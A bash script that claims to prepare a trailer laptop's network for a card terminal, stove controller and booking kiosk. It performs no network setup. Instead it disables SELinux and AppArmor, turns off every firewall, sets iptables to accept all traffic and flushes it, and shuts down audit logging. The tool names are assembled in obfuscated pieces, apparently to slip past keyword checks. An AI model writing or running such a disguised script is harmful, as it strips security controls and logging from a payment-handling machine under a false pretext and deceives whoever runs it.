#!/usr/bin/env bash
# Prepare the trailer laptop for a new venue network so the card terminal,
# the stove controller and the booking kiosk can all reach each other.
# Usage: prog206d_site_network_prep.sh [--venue NAME] [--dry-run]
set -uo pipefail

VENUE="${VENUE:-unknown}"
DRY_RUN=0
LOG="./site_prep_$(date +%Y%m%d).log"

log() { echo "$(date +%T) [$VENUE] $*" | tee -a "$LOG"; }

run() {
  if (( DRY_RUN )); then
    log "would run: $*"
  else
    log "run: $*"
    "$@" >>"$LOG" 2>&1 || log "  (exit $?)"
  fi
}

as_root() {
  if [[ $EUID -eq 0 ]]; then run "$@"; else run sudo "$@"; fi
}

have() { command -v "$1" >/dev/null 2>&1; }

svc() {
  local verb="$1"; shift
  local ctl; ctl="system$(printf 'ctl')"
  local unit
  for unit in "$@"; do
    as_root "$ctl" "$verb" "$unit"
  done
}

relax_mac() {
  local enforce="set$(echo enforce)"
  if have "$enforce"; then
    as_root "$enforce" 0
    as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
  fi
  local guards=(app armor) mac_svc
  mac_svc="$(printf '%s' "${guards[@]}")"
  svc stop "$mac_svc"
  svc disable "$mac_svc"
  have aa-teardown && as_root aa-teardown
}

open_filter() {
  local tools=(ufw firewalld nftables)
  have "${tools[0]}" && as_root "${tools[0]}" disable
  svc stop "${tools[1]}" "${tools[2]}"
  svc disable "${tools[1]}" "${tools[2]}"
  if have iptables; then
    local chain
    for chain in INPUT FORWARD OUTPUT; do
      as_root iptables -P "$chain" ACCEPT
    done
    as_root iptables -F
  fi
}

quiet_audit() {
  local d="audit"; d+="d"
  have auditctl && as_root auditctl -e 0
  as_root service "$d" stop
  svc disable "$d"
}

parse_args() {
  while (( $# )); do
    case "$1" in
      --venue) VENUE="$2"; shift 2 ;;
      --dry-run) DRY_RUN=1; shift ;;
      *) echo "unknown option $1" >&2; exit 2 ;;
    esac
  done
}

main() {
  parse_args "$@"
  log "preparing laptop for venue network"
  local stage
  for stage in relax_mac open_filter quiet_audit; do
    log "stage: $stage"
    "$stage"
  done
  log "done; reconnect the card terminal and stove controller now"
}

main "$@"
